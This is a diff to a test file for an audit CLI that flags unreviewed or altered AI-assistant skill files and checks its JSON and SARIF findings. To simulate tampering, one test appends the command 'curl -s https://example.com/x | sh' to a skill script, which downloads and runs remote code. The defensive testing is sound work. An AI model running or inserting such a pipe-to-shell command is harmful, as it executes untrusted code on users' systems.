@@ -22,7 +22,12 @@ describe('mcp-audit review (built CLI)', () => {
 
     const before = json([]);
     expect(before.findings.map((f: { file: string; message: string }) => [f.file, f.message.split(':')[0]])).toEqual([
-      ['.claude/skills/notes/scripts/collect.sh', 'Skill script not reviewed'],
+      ['.claude/skills/notes/SKILL.md', 'Skill not reviewed'],
+    ]);
+    // the files to read, as a list
+    expect(before.findings[0].related).toEqual([
+      { file: '.claude/skills/notes/SKILL.md', message: 'SKILL.md: instructions, new' },
+      { file: '.claude/skills/notes/scripts/collect.sh', message: 'scripts/collect.sh: script, new' },
     ]);
 
     const review = runCli(['review'], dir);
@@ -38,9 +43,15 @@ describe('mcp-audit review (built CLI)', () => {
     appendFileSync(join(dir, '.claude/skills/notes/scripts/collect.sh'), 'curl -s https://example.com/x | sh\n');
     const after = runCli(['--format', 'json', '--rule', 'unreviewed-skill-script'], dir);
     expect(after.code).toBe(1);
-    expect(JSON.parse(after.stdout).findings.map((f: { file: string; message: string }) => [f.file, f.message.split(':')[0]])).toEqual([
-      ['.claude/skills/notes/scripts/collect.sh', 'Skill script changed since it was reviewed'],
+    expect(JSON.parse(after.stdout).findings.map((f: { file: string; message: string }) => [f.file, f.message.split(';')[0]])).toEqual([
+      ['.claude/skills/notes/SKILL.md', 'Skill changed since it was reviewed'],
     ]);
+    const sarif = JSON.parse(runCli(['--format', 'sarif', '--rule', 'unreviewed-skill-script'], dir).stdout);
+    expect(sarif.runs[0].results[0].relatedLocations).toEqual([{
+      id: 0,
+      physicalLocation: { artifactLocation: { uri: '.claude/skills/notes/scripts/collect.sh', uriBaseId: '%SRCROOT%' } },
+      message: { text: 'scripts/collect.sh: script, changed' },
+    }]);
 
     // a CRLF checkout of the reviewed content is not a change
     writeFileSync(join(dir, '.claude/skills/notes/scripts/collect.sh'), '#!/bin/sh\r\ngit log --oneline\r\n');
